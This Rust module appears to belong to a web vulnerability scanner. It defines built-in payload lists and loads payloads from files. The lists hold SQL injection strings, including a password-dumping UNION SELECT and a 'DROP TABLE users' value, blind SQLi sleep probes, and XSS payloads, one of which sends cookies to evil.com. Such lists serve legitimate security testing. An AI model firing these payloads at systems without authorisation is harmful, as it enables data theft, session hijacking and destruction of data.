//! Built-in payload catalogue and payload file loading.
use crate::types::{Payload, PayloadKind};
use anyhow::{Context, Result};
use std::fs;
use std::path::Path;

pub const SQLI_PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "' UNION SELECT username, password FROM users--",
    "'; DROP TABLE users;--",
    "' OR 1=1--",
    "admin'--",
    "' OR 'x'='x",
];

pub const SQLI_BLIND_PAYLOADS: &[&str] = &[
    "admin' AND (SELECT SLEEP(5))--",
    "' OR IF(1=1, SLEEP(5), 0)--",
];

pub const XSS_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "javascript:alert('XSS')",
    "<iframe src=javascript:alert('XSS')>",
    "';alert('XSS');//",
    "<script>document.location='http://evil.com/'+document.cookie</script>",
];

/// Built-in payloads of one kind.
pub fn builtin(kind: PayloadKind) -> Vec<Payload> {
    let values = match kind {
        PayloadKind::Sqli => SQLI_PAYLOADS,
        PayloadKind::SqliBlind => SQLI_BLIND_PAYLOADS,
        PayloadKind::Xss => XSS_PAYLOADS,
    };
    values.iter().map(|v| Payload::new(*v, kind)).collect()
}

/// Every built-in payload.
pub fn default_payloads() -> Vec<Payload> {
    [PayloadKind::Sqli, PayloadKind::SqliBlind, PayloadKind::Xss]
        .into_iter()
        .flat_map(builtin)
        .collect()
}

/// One payload per line. Blank lines and lines starting with `#` are skipped;
/// other lines are taken verbatim (payloads routinely contain `#` and spaces).
pub fn parse_payloads_str(s: &str, kind: PayloadKind) -> Vec<Payload> {
    s.lines()
        .filter(|l| !l.trim().is_empty() && !l.trim_start().starts_with('#'))
        .map(|l| Payload::new(l.trim_end_matches('\r'), kind))
        .collect()
}

pub fn load_payloads_from_path(path: impl AsRef<Path>, kind: PayloadKind) -> Result<Vec<Payload>> {
    let content = fs::read_to_string(path.as_ref())
        .with_context(|| format!("failed to read payload file: {}", path.as_ref().display()))?;
    Ok(parse_payloads_str(&content, kind))
}

/// Replace every payload of `kind` in `payloads` with `replacement`.
pub fn replace_kind(payloads: &mut Vec<Payload>, kind: PayloadKind, replacement: Vec<Payload>) {
    payloads.retain(|p| p.kind != kind);
    payloads.extend(replacement);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn catalogue_sizes() {
        assert_eq!(builtin(PayloadKind::Sqli).len(), 6);
        assert_eq!(builtin(PayloadKind::SqliBlind).len(), 2);
        assert_eq!(builtin(PayloadKind::Xss).len(), 7);
        assert_eq!(default_payloads().len(), 15);
    }

    #[test]
    fn payload_file_keeps_lines_verbatim() {
        let input = "# boolean probes\n' OR 1=1--\n\n  admin'-- \n";
        let p = parse_payloads_str(input, PayloadKind::Sqli);
        assert_eq!(
            p,
            vec![
                Payload::new("' OR 1=1--", PayloadKind::Sqli),
                Payload::new("  admin'-- ", PayloadKind::Sqli),
            ]
        );
    }

    #[test]
    fn replace_only_touches_one_kind() {
        let mut all = default_payloads();
        replace_kind(
            &mut all,
            PayloadKind::Xss,
            vec![Payload::new("<b>x</b>", PayloadKind::Xss)],
        );
        assert_eq!(all.iter().filter(|p| p.kind == PayloadKind::Xss).count(), 1);
        assert_eq!(all.len(), 9);
    }
}
